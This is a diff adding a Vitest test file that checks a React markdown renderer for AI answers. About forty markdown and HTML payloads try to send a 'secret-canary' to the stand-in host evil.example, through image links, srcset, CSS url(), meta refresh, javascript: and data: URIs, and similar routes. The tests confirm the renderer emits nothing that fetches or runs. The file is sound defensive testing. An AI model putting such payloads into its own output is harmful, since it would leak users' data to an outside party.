@@ -1,0 +1,73 @@
+import { renderToStaticMarkup } from 'react-dom/server';
+import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
+import AnswerMarkdown from './answer-markdown.tsx';
+
+beforeAll(() => void vi.stubGlobal('location', { origin: 'https://atelier.example' }));
+afterAll(() => void vi.unstubAllGlobals());
+
+const EVIL = 'https://evil.example/?q=secret-canary';
+const html = (text: string, words = 'Hi') =>
+  renderToStaticMarkup(<AnswerMarkdown text={text} live={false} words={words} />);
+
+/** What a browser would fetch, look up or run by itself, or go to at one press. */
+const ACTS =
+  /<(?:img|script|style|link|iframe|object|embed|video|audio|source|image|use|form|meta|base)\b|\s(?:src|srcset|href|style|on\w+|action|background|poster|ping|formaction)\s*=/i;
+
+describe('an answer with a secret in it', () => {
+  test.each([
+    `![x](${EVIL})`,
+    `![x](<${EVIL}> "title")`,
+    `![x][1]\n\n[1]: ${EVIL}`,
+    `[![x](${EVIL})](${EVIL})`,
+    `[a link](${EVIL})`,
+    `[a link][1]\n\n[1]: ${EVIL}`,
+    `<${EVIL}>`,
+    `Bare ${EVIL} in a sentence`,
+    'www.evil.example/secret-canary',
+    '<secret-canary@evil.example>',
+    'secret-canary@evil.example',
+    '[mail](mailto:a@evil.example?body=secret-canary)',
+    `[](${EVIL})`,
+    `# [heading](${EVIL})`,
+    `| a |\n|---|\n| ![x](${EVIL}) |`,
+    `- [ ] ![x](${EVIL})`,
+    `~~[gone](${EVIL})~~`,
+    `Text[^1]\n\n[^1]: ![x](${EVIL})`,
+    `<img src="${EVIL}">`,
+    `<img srcset="${EVIL} 2x">`,
+    `<svg><image href="${EVIL}"/></svg>`,
+    `<style>*{background:url(${EVIL})}</style>`,
+    `<p style="background:url(${EVIL})">x</p>`,
+    `<link rel="dns-prefetch" href="//secret-canary.evil.example">`,
+    `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
+    `<iframe src="${EVIL}"></iframe>`,
+    `<a href="${EVIL}" ping="${EVIL}">x</a>`,
+    `<base href="${EVIL}">`,
+    `<form action="${EVIL}"><button>Go</button></form>`,
+    '![x](//evil.example/secret-canary)',
+    '![x](data:image/svg+xml;base64,PHN2Zy8+)',
+    '![x](blob:https://evil.example/1)',
+    '[x](javascript:fetch("https://evil.example"))',
+    '[x](data:text/html,<script>1</script>)',
+    '[x](vbscript:x)',
+    '[x](//evil.example/secret-canary)',
+    `![x](https://atelier.example@evil.example/secret-canary)`,
+    `![x](https://atelier.example.evil.example/secret-canary)`,
+    `\`\`\`html\n<img src="${EVIL}">\n\`\`\``,
+    `&lt;img src=${EVIL}&gt;`,
+  ])('sends nothing: %s', (text) => {
+    // A footnote leads to its place in the same answer.
+    const tags = (html(text).match(/<[^>]*>/g) ?? []).filter((tag) => !tag.startsWith('<a href="#'));
+    expect(tags.join('')).not.toMatch(ACTS);
+  });
+
+  test('has a link only where the person wrote the very address', () => {
+    expect(html(`[x](${EVIL})`, `Read ${EVIL}`)).toContain('rel="noopener noreferrer"');
+    expect(html(`[x](${EVIL})`, 'Read https://evil.example/')).not.toContain('href=');
+    expect(html(`[x](${EVIL})`, `Read ${EVIL}-and-more`)).not.toContain('href=');
+  });
+
+  test('shows a picture of our own', () => {
+    expect(html('![x](/icon.png)')).toContain('src="https://atelier.example/icon.png"');
+  });
+});
